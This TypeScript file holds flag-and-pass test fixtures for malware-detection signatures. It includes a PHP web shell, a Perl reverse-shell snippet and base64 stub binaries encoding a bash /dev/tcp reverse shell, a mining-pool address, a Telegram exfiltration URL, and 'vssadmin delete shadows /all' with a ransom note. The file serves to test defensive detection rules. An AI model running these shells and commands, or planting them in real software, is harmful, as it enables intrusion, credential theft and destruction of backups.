import type { Rule } from "./rule.ts";

export const SIGNATURE_EXAMPLES = {
  reverse_shell: {
    flags: [
      {
        name: "a shell in a Perl program",
        files: {
          "scripts/a.pl": 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec("/bin/sh -i");\n',
        },
      },
      {
        name: "a shell in machine code",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NAA=",
        },
      },
    ],
    passes: [
      {
        name: "a Perl client",
        files: {
          "scripts/a.pl": "use Socket; socket(S,PF_INET,SOCK_STREAM,6); print S 'hi';\n",
        },
      },
    ],
  },
  web_shell: {
    flags: [
      {
        name: "a PHP page",
        files: {
          "assets/a.php": "<?php system($_GET['c']); ?>\n",
        },
      },
    ],
    passes: [
      {
        name: "a PHP page that greets",
        files: {
          "assets/a.php": "<?php echo htmlspecialchars($_GET['name']); ?>\n",
        },
      },
    ],
  },
  miner: {
    flags: [
      {
        name: "a pool and a name",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjMzMzMAeG1yaWcvNgA=",
        },
      },
    ],
    passes: [
      {
        name: "a name alone",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAcmFuZG9teAA=",
        },
      },
    ],
  },
  packed_with_upx: {
    flags: [
      {
        name: "a packed program",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAVVBYMABVUFgxAFVQWCEA",
        },
      },
    ],
    passes: [
      {
        name: "a program that names the packer",
        files: {},
        binaries: {
          "bin/helper": "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAVVBYIQA=",
        },
      },
    ],
  },
  browser_stealer: {
    flags: [
      {
        name: "stores and a way out",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEATG9naW4gRGF0YQBMb2NhbCBTdGF0ZQBlbmNyeXB0ZWRfa2V5AFNFTEVDVCBvcmlnaW5fdXJsIEZST00gbG9naW5zAGh0dHBzOi8vYXBpLnRlbGVncmFtLm9yZy9ib3QxL3NlbmREb2N1bWVudAA=",
        },
      },
    ],
    passes: [
      {
        name: "a browser's own file names",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEATG9naW4gRGF0YQBMb2NhbCBTdGF0ZQBXZWIgRGF0YQA=",
        },
      },
    ],
  },
  wallet_stealer: {
    flags: [
      {
        name: "three wallets",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEARXhvZHVzL2V4b2R1cy53YWxsZXQARWxlY3RydW0vd2FsbGV0cwB3YWxsZXQuZGF0AA==",
        },
      },
    ],
    passes: [
      {
        name: "one wallet",
        files: {},
        binaries: {
          "bin/helper":
            "f0VMRgIBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEARWxlY3RydW0vd2FsbGV0cwA=",
        },
      },
    ],
  },
  process_injection: {
    flags: [
      {
        name: "the three calls",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAVmlydHVhbEFsbG9jRXgAV3JpdGVQcm9jZXNzTWVtb3J5AENyZWF0ZVJlbW90ZVRocmVhZAA=",
        },
      },
    ],
    passes: [
      {
        name: "one of the calls",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAQ3JlYXRlUmVtb3RlVGhyZWFkAA==",
        },
      },
    ],
  },
  remote_control: {
    flags: [
      {
        name: "a loader and a name",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAUmVmbGVjdGl2ZUxvYWRlcgBtZXRzcnYuZGxsAA==",
        },
      },
    ],
    passes: [
      {
        name: "a loader",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAUmVmbGVjdGl2ZUxvYWRlcgA=",
        },
      },
    ],
  },
  key_logger: {
    flags: [
      {
        name: "keys and a request",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAU2V0V2luZG93c0hvb2tFeEEAR2V0QXN5bmNLZXlTdGF0ZQBHZXRGb3JlZ3JvdW5kV2luZG93AEludGVybmV0T3BlblVybEEA",
        },
      },
    ],
    passes: [
      {
        name: "keys of a game",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAR2V0QXN5bmNLZXlTdGF0ZQA=",
        },
      },
    ],
  },
  password_prompt: {
    flags: [
      {
        name: "a dialog with a hidden answer",
        files: {},
        binaries: {
          "bin/helper":
            "z/rt/gEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAb3Nhc2NyaXB0IC1lAGRpc3BsYXkgZGlhbG9nICJQYXNzd29yZCIgZGVmYXVsdCBhbnN3ZXIgIiIgd2l0aCBoaWRkZW4gYW5zd2VyAA==",
        },
      },
    ],
    passes: [
      {
        name: "a dialog",
        files: {},
        binaries: {
          "bin/helper":
            "z/rt/gEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEAb3Nhc2NyaXB0IC1lAGRpc3BsYXkgZGlhbG9nICJEb25lIgA=",
        },
      },
    ],
  },
  ransom: {
    flags: [
      {
        name: "backups and a demand",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAdnNzYWRtaW4gZGVsZXRlIHNoYWRvd3MgL2FsbABZb3VyIGZpbGVzIGhhdmUgYmVlbiBlbmNyeXB0ZWQA",
        },
      },
    ],
    passes: [
      {
        name: "a backup program",
        files: {},
        binaries: {
          "bin/helper":
            "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAcAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAFBFAAAAAAAAAAAAAAAAAAAAdnNzYWRtaW4gbGlzdCBzaGFkb3dzAA==",
        },
      },
    ],
  },
} as const satisfies Readonly<Record<string, Rule["examples"]>>;
